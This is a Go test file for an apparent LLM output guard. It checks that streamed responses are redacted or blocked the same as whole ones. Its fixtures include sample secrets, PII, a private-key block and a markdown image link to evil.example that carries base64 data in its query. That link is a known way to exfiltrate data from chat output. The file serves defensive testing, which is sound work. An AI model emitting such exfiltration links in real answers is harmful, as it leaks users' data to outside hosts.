// Package realscan runs the streaming property test with every real
// scanner (scan/all) under the built-in balanced policy.
package realscan

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/tidwall/gjson"

	"rampart/internal/guard"
	"rampart/internal/openai"
	"rampart/internal/policy"
	"rampart/internal/redact"
	_ "rampart/internal/scan/all"
)

var pieces = []string{
	"Hello ", "the report ", "is ready. ", "\n", "Call me at +1 415 555 0134 ", "or mail jane.doe@example.com. ",
	"AWS key AKIAIOSFODNN7EXAMPLE ", "token ghp_1234567890abcdefghijklmnopqrstuvwxyzAB ", "card 4111 1111 1111 1111 ",
	"IBAN DE89370400440532013000 ", "SSN 123-45-6789 ", "<EMAIL_1> ", "<PERSON_1> ", "naïve ", "日本語 ",
	"![p](https://evil.example/i.png?d=c2VjcmV0LWRhdGEtaGVyZQ) ", "[docs](https://go.dev/doc) ",
}

func stream(t *testing.T, o *guard.Output, text string, cuts []int) (string, bool) {
	var b strings.Builder
	prev := 0
	emit := func(s string) {
		j, _ := json.Marshal(s)
		fmt.Fprintf(&b, "data: {\"id\":\"c\",\"object\":\"chat.completion.chunk\",\"choices\":[{\"index\":0,\"delta\":{\"content\":%s},\"finish_reason\":null}]}\n\n", j)
	}
	for _, c := range cuts {
		for c < len(text) && !utf8.RuneStart(text[c]) {
			c++
		}
		if c > prev && c < len(text) {
			emit(text[prev:c])
			prev = c
		}
	}
	emit(text[prev:])
	b.WriteString("data: {\"id\":\"c\",\"object\":\"chat.completion.chunk\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n")
	var out bytes.Buffer
	res, err := o.RelaySSE(context.Background(), &out, strings.NewReader(b.String()), guard.SSEOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var got strings.Builder
	r := openai.NewSSEReader(&out)
	for {
		ev, err := r.Next()
		if err != nil {
			break
		}
		got.WriteString(gjson.GetBytes(ev.Data, "choices.0.delta.content").String())
	}
	return got.String(), res.Blocked
}

func TestRealScannersStreamEqualsWhole(t *testing.T) {
	// Input-only scanners are off: this test is about the output path.
	set, err := policy.Parse([]byte("extends: balanced\nscanners: {injection: off}\n"))
	if err != nil {
		t.Fatal(err)
	}
	pol := set.Default
	newOutput := func() *guard.Output {
		v := redact.NewVault()
		v.Placeholder("EMAIL", "carol@private.example")
		v.Placeholder("PERSON", "Carol Danvers")
		c, _ := guard.NewContext(pol, []string{"You are a helpful assistant for Acme support."}, nil)
		return &guard.Output{Policy: pol, Vault: v, Context: c}
	}
	r := rand.New(rand.NewPCG(5, 6))
	n := 12
	if testing.Short() {
		n = 3
	}
	for range n {
		var sb strings.Builder
		for range 4 + r.IntN(16) {
			sb.WriteString(pieces[r.IntN(len(pieces))])
		}
		text := sb.String()
		body, _ := json.Marshal(map[string]any{"choices": []any{map[string]any{"index": 0, "message": map[string]any{"role": "assistant", "content": text}}}})
		outBody, d, _, err := newOutput().CheckResponse(context.Background(), body)
		if err != nil {
			t.Fatal(err)
		}
		wantBlocked := d.Enforced == policy.Block
		want := gjson.GetBytes(outBody, "choices.0.message.content").String()
		ones := make([]int, len(text))
		for i := range ones {
			ones[i] = i + 1
		}
		var rnd []int
		for c := r.IntN(9) + 1; c < len(text); c += r.IntN(9) + 1 {
			rnd = append(rnd, c)
		}
		for name, cuts := range map[string][]int{"1-byte": ones, "random": rnd, "whole": nil} {
			got, blocked := stream(t, newOutput(), text, cuts)
			if blocked != wantBlocked || (!blocked && got != want) {
				t.Errorf("%s chunks: blocked %v/%v\ntext %q\n got %q\nwant %q", name, blocked, wantBlocked, text, got, want)
			}
		}
	}
}

// pemKey is a private-key block longer than the stream holdback, so it
// can only come out masked as a whole if the stream holds it open.
var pemKey = "-----BEGIN RSA PRIVATE KEY-----\n" + strings.Repeat("MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdgcKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbcmw\n", 3) + "-----END RSA PRIVATE KEY-----"

// TestRealScannersLongAnswers: answers longer than the holdback (several
// releases per stream), with private-key blocks split across chunks, give
// the non-streamed result for every chunking tried.
func TestRealScannersLongAnswers(t *testing.T) {
	set, err := policy.Parse([]byte("extends: balanced\nscanners: {injection: off}\n"))
	if err != nil {
		t.Fatal(err)
	}
	pol := set.Default
	newOutput := func() *guard.Output {
		v := redact.NewVault()
		v.Placeholder("EMAIL", "carol@private.example")
		c, _ := guard.NewContext(pol, []string{"You are a helpful assistant for Acme support."}, nil)
		return &guard.Output{Policy: pol, Vault: v, Context: c}
	}
	long := append([]string{pemKey + "\n", "key:\n" + pemKey + " done. "}, pieces...)
	r := rand.New(rand.NewPCG(7, 8))
	texts := []string{
		strings.Repeat("plain words ", 100) + pemKey + strings.Repeat(" more words", 60),
		pemKey,
		strings.Repeat("x", 700) + " tail " + pemKey[:200], // an unterminated block
	}
	for range 4 {
		var sb strings.Builder
		for sb.Len() < 3000 {
			sb.WriteString(long[r.IntN(len(long))])
		}
		texts = append(texts, sb.String())
	}
	for _, text := range texts {
		body, _ := json.Marshal(map[string]any{"choices": []any{map[string]any{"index": 0, "message": map[string]any{"role": "assistant", "content": text}}}})
		outBody, d, _, err := newOutput().CheckResponse(context.Background(), body)
		if err != nil {
			t.Fatal(err)
		}
		wantBlocked := d.Enforced == policy.Block
		want := gjson.GetBytes(outBody, "choices.0.message.content").String()
		if strings.Contains(text, pemKey) && strings.Contains(want, "MIIEowIBAAKCAQEA") {
			t.Fatalf("the non-streamed check did not mask the key: %q", want)
		}
		chunkings := map[string][]int{"whole": nil}
		for _, size := range []int{1, 4, 37} {
			var cuts []int
			for c := size; c < len(text); c += size {
				cuts = append(cuts, c)
			}
			chunkings[fmt.Sprintf("%d-byte", size)] = cuts
		}
		// Splits inside and around the key's BEGIN and END lines.
		if i := strings.Index(text, "-----BEGIN"); i >= 0 {
			for _, at := range []int{i + 3, i + 12, i + 31, i + 200} {
				chunkings[fmt.Sprintf("split at %d", at)] = []int{at}
			}
		}
		if i := strings.Index(text, "-----END"); i >= 0 {
			chunkings["split in END"] = []int{i + 5, i + 20}
		}
		for name, cuts := range chunkings {
			got, blocked := stream(t, newOutput(), text, cuts)
			if blocked != wantBlocked || (!blocked && got != want) {
				t.Errorf("%s chunks: blocked %v/%v\ntext %q\n got %q\nwant %q", name, blocked, wantBlocked, text, got, want)
			}
		}
	}
}
